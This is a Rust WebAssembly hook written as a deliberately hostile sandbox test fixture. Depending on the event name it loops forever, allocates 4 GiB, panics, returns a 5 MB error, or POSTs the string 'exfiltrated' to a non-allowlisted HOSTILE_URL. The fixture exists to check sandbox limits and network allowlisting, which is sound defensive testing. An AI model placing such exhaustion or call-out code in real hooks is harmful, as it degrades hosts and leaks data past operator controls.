//! A hook that misbehaves on purpose, for the sandbox tests: on-push does what the first
//! event's name says: `loop` (never returns), `alloc` (takes 4 GiB), `trap` (panics),
//! `huge-error` (returns a 5 MB message), `call-out` (POSTs to `HOSTILE_URL`, which the
//! operator did not allowlist). Anything else is accepted. on-pull refuses live pulls from the
//! start of the log (cursor 0), to test the on-pull path.

#[cfg(target_arch = "wasm32")]
mod component {
    wit_bindgen::generate!({ world: "push-and-pull-gate", path: "../../wit/hooks" });

    use exports::livestore::hooks::on_pull::{self, PullRequest};
    use exports::livestore::hooks::on_push::{Context, Event, Guest};

    impl on_pull::Guest for Hook {
        fn on_pull(context: on_pull::Context, request: PullRequest) -> Result<(), String> {
            if request.live && request.cursor == 0 {
                return Err(format!("live pulls of {} must start from a cursor", context.store_id));
            }
            Ok(())
        }
    }

    struct Hook;

    impl Guest for Hook {
        fn on_push(_context: Context, batch: Vec<Event>) -> Result<(), String> {
            match batch.first().map(|e| e.name.as_str()) {
                Some("loop") => {
                    let mut x: u64 = 0;
                    loop {
                        x = std::hint::black_box(x.wrapping_add(1));
                    }
                }
                Some("alloc") => {
                    // 4 GiB, in 64 MiB pieces (one 4 GiB Vec is a capacity-overflow panic
                    // on wasm32 before it ever reaches the allocator).
                    let mut pieces: Vec<Vec<u8>> = Vec::new();
                    for _ in 0..64 {
                        pieces.push(vec![1; 64 << 20]);
                    }
                    Err(format!("allocated {} pieces", std::hint::black_box(pieces).len()))
                }
                Some("trap") => panic!("hostile hook traps on purpose"),
                Some("huge-error") => Err("x".repeat(5 << 20)),
                Some("call-out") => {
                    let url =
                        livestore::hooks::config::get("HOSTILE_URL").unwrap_or_else(|| "http://example.com/".into());
                    http_post::post(&url, "text/plain", b"exfiltrated").map(|_| ())
                }
                _ => Ok(()),
            }
        }
    }

    export!(Hook);
}
